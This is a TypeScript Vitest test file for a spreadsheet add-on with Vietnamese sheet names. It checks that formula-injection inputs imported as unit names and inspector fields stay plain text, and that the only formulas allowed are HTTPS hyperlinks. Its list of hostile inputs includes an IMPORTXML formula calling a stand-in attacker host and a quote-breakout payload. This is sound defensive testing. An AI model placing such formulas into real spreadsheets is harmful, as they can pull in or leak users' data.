import { describe, expect, it } from 'vitest';
import { importRecords, openAddon } from './lab.ts';
import { finding, recordOf, sealed } from './records.ts';

const MATRIX = 'Ma trận 2026-Q4';

describe('hostile texts', () => {
  const hostile = [
    '=IMPORTXML("https://evil.example","//a")',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    "'quoted",
    '00123',
    '3-4',
    'TRUE',
  ];
  it.each(hostile)('%s stays text everywhere', async name => {
    const lab = await openAddon();
    const bad = finding('budget', 'pass', {
      evidence: [{ role: 'proof', kind: 'text', page: 0, text: `"&IMPORTXML("x","y")&" ${name}` }],
      inspector: { verdict: 'pass', reason: name, by: name, at: '2026-11-20T05:00:00Z' },
    });
    const record = sealed({ ...recordOf({ code: '1', findings: [bad] }), round: '2026-Q4' });
    importRecords(lab, [sealed({ ...record, unit: { ...record.unit, name, code: name, province: name } })]);
    expect(lab.spreadsheet.sheet('Đơn vị').values()[1]?.slice(0, 4)).toEqual([name, name, 'Cấp xã', name]);
    for (const sheet of lab.spreadsheet.sheets) {
      const formulas = sheet.formulas().flat().filter(Boolean);
      for (const formula of formulas) expect(formula).toMatch(/^=HYPERLINK\("https:\/\/[^"]*";"[^"]*"\)$/);
    }
    expect(lab.spreadsheet.sheet(MATRIX).display()[5]?.slice(1, 4)).toEqual([name, name, 'Đạt *']);
  });
});
